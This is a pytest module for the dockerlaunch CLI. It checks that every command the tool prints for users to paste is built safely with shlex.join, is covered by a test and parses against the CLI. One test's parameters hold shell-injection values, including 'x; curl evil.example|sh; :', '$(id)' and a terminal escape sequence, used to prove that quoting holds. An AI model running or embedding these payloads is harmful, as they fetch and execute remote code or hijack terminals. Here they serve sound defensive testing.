"""Every command dockerlaunch prints for a user to paste is built by dockerlaunch/hints.py (shlex.join, once) at a
site named by a literal `hint=` id, and every id is either run as printed by a test that says so
(`@pytest.mark.hint(ID)`) or listed here with why it cannot run on this machine (issue 60). A string elsewhere in the
package that spells `dockerlaunch <command>` is a command built by hand: it fails here."""

from __future__ import annotations

import ast
import re
import shlex
from pathlib import Path

import pytest

from dockerlaunch import hints

ROOT = Path(__file__).resolve().parents[2]
PACKAGE, TESTS = ROOT / "dockerlaunch", ROOT / "tests"
# the CLI's commands (tests/unit/cli/test_help.py lists them from click): a string that spells one is a command
COMMANDS = ("build", "cache", "commtest", "config", "doctor", "down", "dump", "exec", "fetch", "load", "logs", "ps",
            "push", "render", "save", "schema", "sim", "sources", "stacks", "status", "transport", "up", "verify",
            "wheels")
SPELLED = re.compile(rf"\bdockerlaunch (?:{'|'.join(COMMANDS)})\b")
HELP_KEYWORDS = {"help", "epilog", "short_help", "description"}  # --help and `schema` texts: documentation

# ids whose printed command no test runs, and why (what it needs that the suite's machine, the sim, lacks, or what it
# would destroy); test_every_printed_dockerlaunch_command_parses still checks each one's words against the CLI
_GPU = "printed by doctor's GPU rows, which need a GPU host and a CUDA stack's image (the sim's nodes have no GPU)"
_INDEX = ("resolves or downloads the stack's pins from the package index (the suite's locks and fetches use a local "
          "index through --index-url, which a pasted command leaves to the user's environment)")
_BASE = "makes a Debian base with debootstrap and scans its libraries (root, minutes)"
NOT_RUNNABLE: dict[str, str] = {
    "binaries.how": "not shown on a terminal: the command recorded in a base's tables file as how it was made; "
                    + _BASE,
    "binaries.record": _BASE,
    "build.check": "printed only when a stack in the project's stacks.yaml breaks a rule, and none does",
    "doctor.build": "builds a CUDA stack (hours on a 2-core machine, GBs from the internet)",
    "doctor.pull": "pulls from a registry; the sim has none and the suite's images are built here",
    "exec.example": "runs nvidia-smi in a rank's container: the sim's images have none",
    "fetch.again": _INDEX,
    "fetch.lock-again": _INDEX,
    "lock.again": _INDEX,
    "lock.header": "a comment in a lock file, the command that wrote it; " + _INDEX,
    "lock.rewrite": _INDEX,
    "needs.rebuild": "compiles TE, apex and flash-attn for other GPU archs (hours without a GPU); " + _GPU,
    "needs.rebuild-unnamed": "compiles TE, apex and flash-attn for other GPU archs (hours without a GPU); " + _GPU,
    "needs.verify": _GPU,
    "needs.verify-archs": _GPU,
    "needs.verify-archs-unknown": _GPU,
    "sim.down": "removes a sim cluster: the one this message names is the one the rest of the suite runs on",
    "sim.up": "starts a whole sim cluster (minutes of the suite's time budget)",
    "smoke.transport": "printed by `doctor --smoke`, which runs NCCL on the hosts' GPUs",
    "status.ps": "printed by `status` of a finished job (its logs kept, no containers) while other jobs run: no "
                 "sim test holds both at once",
    "transport.doctor": "printed when NCCL's own log shows a fallback (sockets instead of InfiniBand): the sim runs "
                        "gloo, without NCCL",
    "up.push-builds": "needs two job hosts holding different builds besides a spare: three nodes, and the sim has two",
    "verify.build": "builds a stack (hours on a 2-core machine)",
    "verify.load": "`docker load` of an image file the user names (FILE)",
    "verify.pull": "pulls from a registry; the sim has none",
    "wheels.again": "compiles a package's wheel for a CUDA stack (hours without a GPU)",
}


def _package_files() -> list[Path]:
    """The library's modules: not the programs it runs elsewhere (scripts/ run inside images and on hosts; gang.py is
    the supervisor inside the job's containers) and not hints.py itself."""
    return [f for f in sorted(PACKAGE.rglob("*.py"))
            if "scripts" not in f.relative_to(PACKAGE).parts and f.name not in ("gang.py", "hints.py")]


def _docstrings(tree: ast.AST) -> set[int]:
    return {id(node.body[0].value) for node in ast.walk(tree)
            if isinstance(node, (ast.Module, ast.ClassDef, ast.FunctionDef, ast.AsyncFunctionDef)) and node.body
            and isinstance(node.body[0], ast.Expr) and isinstance(node.body[0].value, ast.Constant)}


def source_ids() -> dict[str, list[str]]:
    """id -> the places (file:line) that print it; a non-literal id is an error (but `hint=hint`: a function such
    as Invocation.fix passing its caller's id on)."""
    found: dict[str, list[str]] = {}
    for f in _package_files():
        for node in ast.walk(ast.parse(f.read_text())):
            if isinstance(node, ast.Call):
                for kw in node.keywords:
                    if kw.arg == "hint" and not (isinstance(kw.value, ast.Name) and kw.value.id == "hint"):
                        where = f"{f.relative_to(ROOT)}:{node.lineno}"
                        assert isinstance(kw.value, ast.Constant) and isinstance(kw.value.value, str), \
                            f"{where}: hint= must be a literal id (the tests name it)"
                        found.setdefault(kw.value.value, []).append(where)
    return found


def marked_ids() -> dict[str, list[str]]:
    """id -> the tests that run it as printed: `@pytest.mark.hint(...)` on a test or a module's `pytestmark`."""
    found: dict[str, list[str]] = {}
    for f in sorted(TESTS.rglob("test_*.py")):
        for node in ast.walk(ast.parse(f.read_text())):
            if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute) and node.func.attr == "hint"
                    and isinstance(node.func.value, ast.Attribute) and node.func.value.attr == "mark"):
                for arg in node.args:
                    assert isinstance(arg, ast.Constant), f"{f}:{node.lineno}: mark.hint takes literal ids"
                    found.setdefault(arg.value, []).append(f"{f.relative_to(ROOT)}:{node.lineno}")
    return found


def test_every_printed_command_is_run_by_a_test_or_said_why_not():
    printed, run = source_ids(), marked_ids()
    bad = sorted(i for i in printed if not hints._ID.match(i))  # hints.command would raise at the user's terminal
    assert not bad, f"hint ids not of the form module.what: {bad}"
    neither = sorted(set(printed) - set(run) - set(NOT_RUNNABLE))
    assert not neither, ("printed commands no test runs and NOT_RUNNABLE does not explain: "
                         + "; ".join(f"{i} ({', '.join(printed[i])})" for i in neither))
    both = sorted(set(run) & set(NOT_RUNNABLE))
    assert not both, f"run by a test AND listed as not runnable here: {both}"
    stale = sorted((set(run) | set(NOT_RUNNABLE)) - set(printed))
    assert not stale, f"ids no site prints any more (tests/unit/test_hints.py, mark.hint): {stale}"
    assert all(why.strip() for why in NOT_RUNNABLE.values())


def test_no_string_in_the_package_spells_a_command_by_hand():
    """`dockerlaunch build --stack {label}` written as an f-string put a host's label into a pasted command."""
    spelled = []
    for f in _package_files():
        tree = ast.parse(f.read_text())
        skip = _docstrings(tree) | {id(n) for kw in ast.walk(tree) if isinstance(kw, ast.keyword)
                                    and kw.arg in HELP_KEYWORDS for n in ast.walk(kw.value)}
        for node in ast.walk(tree):
            if isinstance(node, ast.Constant) and isinstance(node.value, str) and id(node) not in skip:
                spelled += [f"{f.relative_to(ROOT)}:{node.lineno}: {m.group(0)!r}"
                            for m in SPELLED.finditer(node.value)]
    assert not spelled, "build these with dockerlaunch/hints.py (or say `the up command`): " + "; ".join(spelled)


def test_the_scan_sees_a_command_spelled_by_hand(tmp_path):
    """The control: the pattern the scan uses matches the forms that were written by hand."""
    assert SPELLED.search("run `dockerlaunch stacks lock --stack x`")
    assert SPELLED.search("fix: dockerlaunch push img")
    assert not SPELLED.search("not a tar dockerlaunch wrote") and not SPELLED.search("dockerlaunch's own engine")


@pytest.mark.parametrize("word", ["x; curl evil.example|sh; :", "$(id)", "`id`", "a b", "it's", "-n\n", "", "*",
                                  "a\x1b]52;c;ZWNobw==\x07"])
def test_a_value_stays_one_word_when_pasted(word):
    """What a shell makes of the printed command is the words it was built from, whatever a value holds."""
    printed = hints.command("dockerlaunch", "build", "--stack", word, "--cuda-archs", "9.0", hint="test.value")
    assert shlex.split(printed) == ["dockerlaunch", "build", "--stack", word, "--cuda-archs", "9.0"]


@pytest.mark.parametrize("bad", ["", "Up.doctor", "up", "up doctor", "up.doctor\n"])
def test_a_hint_id_is_a_literal_module_dot_what(bad):
    with pytest.raises(ValueError):
        hints.command("dockerlaunch", "doctor", hint=bad)


def _printed_words() -> list[tuple[str, str, list[str]]]:
    """(id, where, words after `dockerlaunch`) of every site that prints a dockerlaunch command: literal words as
    written, any other value as `1` (a valid number, name and path alike)."""
    out = []
    for f in _package_files():
        for node in ast.walk(ast.parse(f.read_text())):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)):
                continue
            hint = next((kw.value.value for kw in node.keywords if kw.arg == "hint"
                         and isinstance(kw.value, ast.Constant)), None)
            if hint is None or node.func.attr not in ("dockerlaunch", "command", "fix"):
                continue
            if node.func.attr == "command" and isinstance(node.func.value, ast.Name) and node.func.value.id == "hints":
                continue  # another program's command (docker pull, ...)
            if any(isinstance(a, ast.Starred) for a in node.args):
                continue  # a forwarder (Invocation.fix passes its caller's words on)
            words = [a.value if isinstance(a, ast.Constant) else "1" for a in node.args]
            out.append((hint, f"{f.relative_to(ROOT)}:{node.lineno}", words))
    return out


def test_every_printed_dockerlaunch_command_parses(tmp_path, monkeypatch):
    """Its words are the CLI's own: each command exists and takes each flag and argument it is printed with (a
    pointer to `stacks check --stack X` for a command without --stack fails when pasted)."""
    import click

    from dockerlaunch.cli import diagnose, images, jobs, render, sim, transfer  # noqa: F401 - registers commands
    from dockerlaunch.cli.main import cli

    monkeypatch.chdir(tmp_path)
    (tmp_path / "1").write_text("")  # a value printed from a variable is `1`: a path that exists, too
    bad = []
    sites = _printed_words()
    assert len(sites) >= 30, sites  # the scan finds the sites
    for hint, where, words in sites:
        ctx = click.Context(cli, info_name="dockerlaunch")
        command, args, name = cli, list(words), "dockerlaunch"
        try:
            while isinstance(command, click.Group):
                if not args:
                    if not command.invoke_without_command:
                        bad.append(f"{hint} ({where}): dockerlaunch {' '.join(words)}: needs a subcommand")
                    break
                name, command, args = command.resolve_command(ctx, args)
                ctx = click.Context(command, info_name=name, parent=ctx)
            else:
                command.make_context(name, list(args), parent=ctx.parent)
        except click.exceptions.Exit:
            pass
        except click.ClickException as e:
            bad.append(f"{hint} ({where}): dockerlaunch {' '.join(words)}: {e.format_message()}")
    assert not bad, "\n".join(bad)
